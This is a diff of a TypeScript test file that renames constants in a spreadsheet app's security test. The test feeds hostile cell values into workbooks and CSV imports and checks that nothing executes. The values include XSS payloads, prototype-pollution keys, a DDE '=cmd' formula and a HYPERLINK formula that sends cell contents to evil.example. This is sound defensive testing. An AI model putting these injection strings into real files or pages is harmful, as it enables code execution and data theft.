@@ -11,13 +11,13 @@ const chromium = inChromium();
 let workbook: OpenWorkbook;
 let page: OpenWorkbook["page"];
 
-const image = '<img src=x onerror="pwned=1">';
-const script = "<script>pwned=1</script>";
+const IMAGE = '<img src=x onerror="pwned=1">';
+const SCRIPT = "<script>pwned=1</script>";
 const long = "x".repeat(32_767);
-/** What stands in cells: as names of links and countries, as headings, as tags, around the table. */
+/** What is in cells: as names of links and countries, as headings, as tags, around the table. */
 const words = [
-  image,
-  script,
+  IMAGE,
+  SCRIPT,
   "__proto__",
   "constructor",
   '"><svg onload=pwned=1>',
@@ -27,7 +27,7 @@ const words = [
   "toString",
   "hasOwnProperty",
 ];
-const commands = [
+const COMMANDS = [
   '=HYPERLINK("https://evil.example/?"&A1,"click")',
   '=cmd|"/C calc"!A1',
   "+1+1",
@@ -38,7 +38,7 @@ const commands = [
   "[click](javascript:pwned=1)",
 ];
 
-const heads = ["Link", "Country", "Sales (output)", "Inputs bought", image, "__proto__"];
+const headers = ["Link", "Country", "Sales (output)", "Inputs bought", IMAGE, "__proto__"];
 const rows = words.map((word, index) => [
   word,
   words[(index + 3) % words.length]!,
@@ -49,11 +49,11 @@ const rows = words.map((word, index) => [
 ]);
 
 function cells(): CellData[] {
-  const found: CellData[] = [[image], [], heads, ...rows].flatMap((line, row) =>
+  const found: CellData[] = [[IMAGE], [], headers, ...rows].flatMap((line, row) =>
     line.map((value, column) => ({ row, column, value })),
   );
   const below = rows.length + 5;
-  commands.forEach((value, index) => found.push({ row: below + index, column: 0, value }));
+  COMMANDS.forEach((value, index) => found.push({ row: below + index, column: 0, value }));
   found.push({ row: below, column: 2, value: long });
   found.push({
     row: 3,
@@ -69,21 +69,21 @@ function cells(): CellData[] {
     .filter(({ row, column }) => !(row === 1 && column === 8));
 }
 
-const names = ["__proto__", "constructor", "toString"];
-const sheetNames = ["<img src=x onerror=pwned=1>", "__proto__", "constructor"];
+const NAMES = ["__proto__", "constructor", "toString"];
+const SHEET_NAMES = ["<img src=x onerror=pwned=1>", "__proto__", "constructor"];
 
 async function hostile(): Promise<Buffer> {
   // Who buys from whom, between countries of the worst names.
   const flows = [
-    ["", "", image, "__proto__", "constructor", image, "__proto__", "constructor"],
-    ...[image, "__proto__", "constructor"].map((name, row) => [
+    ["", "", IMAGE, "__proto__", "constructor", IMAGE, "__proto__", "constructor"],
+    ...[IMAGE, "__proto__", "constructor"].map((name, row) => [
       name,
       "All",
       ...[0, 1, 2].map((column) => 10 + 3 * row + column),
       ...[0, 1, 2].map((column) => (row === column ? 100 : 5)),
     ]),
   ];
-  const sheets = sheetNames.map((name, index) => ({
+  const sheets = SHEET_NAMES.map((name, index) => ({
     ...blankSheet(name),
     cells:
       index === 0
@@ -91,7 +91,7 @@ async function hostile(): Promise<Buffer> {
         : flows.flatMap((line, row) => line.flatMap((value, column) => (value === "" ? [] : [{ row, column, value }]))),
   }));
   return Buffer.from(
-    (await writeWorkbook({ sheets, names: names.map((name) => ({ name, range: "constructor!$A$1" })) }, () => true))
+    (await writeWorkbook({ sheets, names: NAMES.map((name) => ({ name, range: "constructor!$A$1" })) }, () => true))
       .file,
   );
 }
@@ -151,13 +151,13 @@ const sheets = () =>
 it("a workbook, in every view", async () => {
   await open("<img src=x onerror=pwned=1>.xlsx", await hostile(), /Add as new sheets/);
   await until(async () => (await sheets()).includes("constructor"));
-  expect(await sheets()).toEqual(expect.arrayContaining(sheetNames));
-  const there = await workbook.read(`'${sheetNames[0]!}'!A${rows.length + 6}:A${rows.length + 5 + commands.length}`);
+  expect(await sheets()).toEqual(expect.arrayContaining(SHEET_NAMES));
+  const there = await workbook.read(`'${SHEET_NAMES[0]!}'!A${rows.length + 6}:A${rows.length + 5 + COMMANDS.length}`);
   // The grid takes the last two for links, of which it shows the words.
-  expect(there.texts.map(([text]) => text)).toEqual([...commands.slice(0, -2), "click", "click"]);
+  expect(there.texts.map(([text]) => text)).toEqual([...COMMANDS.slice(0, -2), "click", "click"]);
   expect(await harm()).toEqual(none);
 
-  await workbook.select(`'${sheetNames[0]!}'!A3`);
+  await workbook.select(`'${SHEET_NAMES[0]!}'!A3`);
   const analyse = await workbook.view("Analyse");
   await analyse.getByRole("button", { name: /^Read/ }).click();
   await analyse.getByRole("heading", { name: "How the table is read" }).waitFor();
@@ -167,7 +167,7 @@ it("a workbook, in every view", async () => {
   expect(await harm()).toEqual(none);
 
   const table = async (view: string) => {
-    await workbook.select(`'${sheetNames[0]!}'!A3`);
+    await workbook.select(`'${SHEET_NAMES[0]!}'!A3`);
     return workbook.view(view);
   };
   const start = await table("Start");
@@ -204,7 +204,7 @@ it("a workbook, in every view", async () => {
   expect(await harm()).toEqual(none);
 
   for (const cell of ["I1", "I4", "A3"]) {
-    await workbook.select(`'${sheetNames[0]!}'!${cell}`);
+    await workbook.select(`'${SHEET_NAMES[0]!}'!${cell}`);
     await workbook.view("Explain");
     await page.waitForTimeout(200);
     expect({ cell, ...(await harm()) }).toEqual({ cell, ...none });
@@ -232,26 +232,26 @@ it("a workbook, in every view", async () => {
   const file = new Uint8Array(readFileSync(await download.path()));
   expect(await faultsIn(file)).toEqual([]);
   const { workbook: saved } = await readWorkbook(file, () => true);
-  const sheet = saved.sheets.find(({ name }) => name === sheetNames[0])!;
+  const sheet = saved.sheets.find(({ name }) => name === SHEET_NAMES[0])!;
   expect(
     sheet.cells.filter(({ column, row }) => column === 0 && row >= rows.length + 5).map(({ value }) => value),
-  ).toEqual(commands);
+  ).toEqual(COMMANDS);
   expect(sheet.cells.find(({ value }) => value === long)).toBeDefined();
   expect(sheet.cells.filter(({ formula }) => formula !== undefined && !/^=VC[.]/.test(formula))).toEqual([]);
 });
 
 it("a table as text", async () => {
   const quote = (value: unknown) => `"${String(value).replaceAll('"', '""')}"`;
-  const csv = [heads, ...rows, ...commands.map((command) => [command, command, 1, 1, command, 1])]
+  const csv = [headers, ...rows, ...COMMANDS.map((command) => [command, command, 1, 1, command, 1])]
     .map((line) => line.map(quote).join(","))
     .join("\r\n");
   const before = (await sheets()).length;
-  await open(`${image}.csv`, Buffer.from(csv), /Add as new sheet/);
+  await open(`${IMAGE}.csv`, Buffer.from(csv), /Add as new sheet/);
   await until(async () => (await sheets()).length > before);
   const name = (await sheets()).at(-1)!;
   expect(name).not.toMatch(/[[\]:*?/\\]/);
-  const { texts } = await workbook.read(`'${name}'!A1:A${rows.length + commands.length + 1}`);
-  expect(texts.map(([text]) => text)).toEqual(["Link", ...words, ...commands.slice(0, -2), "click", "click"]);
+  const { texts } = await workbook.read(`'${name}'!A1:A${rows.length + COMMANDS.length + 1}`);
+  expect(texts.map(([text]) => text)).toEqual(["Link", ...words, ...COMMANDS.slice(0, -2), "click", "click"]);
   await workbook.select(`'${name}'!A1`);
   for (const view of ["Analyse", "Check", "Pictures", "Explain", "Share"]) {
     const panel = await workbook.view(view);
